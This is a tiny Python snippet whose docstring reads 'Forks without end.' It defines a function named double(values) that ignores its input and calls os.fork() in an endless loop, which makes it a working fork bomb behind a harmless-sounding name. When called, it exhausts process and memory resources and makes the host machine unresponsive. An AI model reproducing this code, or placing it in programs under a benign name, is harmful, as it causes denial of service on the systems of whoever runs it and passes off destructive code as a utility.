"""Forks without end."""
import os
def double(values):
    while True:
        os.fork()
